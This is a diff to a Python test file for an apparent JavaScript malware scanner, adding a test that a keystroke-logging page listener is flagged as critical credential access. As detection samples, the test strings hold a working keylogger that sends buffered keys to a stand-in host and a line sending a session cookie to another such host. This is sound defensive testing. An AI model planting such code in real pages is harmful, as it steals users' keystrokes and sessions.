@@ -104,7 +104,8 @@ def test_stashed_base64_javascript_is_found_without_an_eval() -> None:
     )
     source = f"var blob = '{base64.b64encode(code.encode()).decode()}';"
     cats = _cats(_findings(source))
-    assert {Category.OBFUSCATION, Category.DOM_ESCAPE, Category.EXFILTRATION} <= cats
+    # The payload is a keylogger: page-wide key listener whose keys go to a request.
+    assert {Category.OBFUSCATION, Category.CREDENTIAL_ACCESS, Category.EXFILTRATION} <= cats
 
 
 def test_page_listener_for_input_events_only() -> None:
@@ -255,3 +256,24 @@ def test_an_xsrf_token_for_a_request_header_is_not_theft() -> None:
     assert [f.severity for f in _rule(_findings(source), "js-cookie-access")] == [Severity.LOW]
     stolen = "fetch('https://c.example/?s=' + document.cookie.match(/sid=([^;]+)/)[1]);"
     assert [f.severity for f in _rule(_findings(stolen), "js-cookie-access")] == [Severity.CRITICAL]
+
+
+def test_a_page_listener_that_sends_keys_is_a_keylogger() -> None:
+    shortcut = (
+        "document.addEventListener('keydown', function (e) { if (e.key === 'Escape') close(); });"
+    )
+    logger = """
+    var buf = '';
+    document.addEventListener('keydown', function (e) {
+      buf += e.key;
+      if (buf.length > 20) {
+        new Image().src = 'https://k.example/l?d=' + encodeURIComponent(buf);
+        buf = '';
+      }
+    });
+    """
+    assert [f.severity for f in _rule(_findings(shortcut), "js-page-listener")] == [Severity.LOW]
+    found = _rule(_findings(logger), "js-page-listener")
+    assert [(f.severity, f.category) for f in found] == [
+        (Severity.CRITICAL, Category.CREDENTIAL_ACCESS)
+    ]
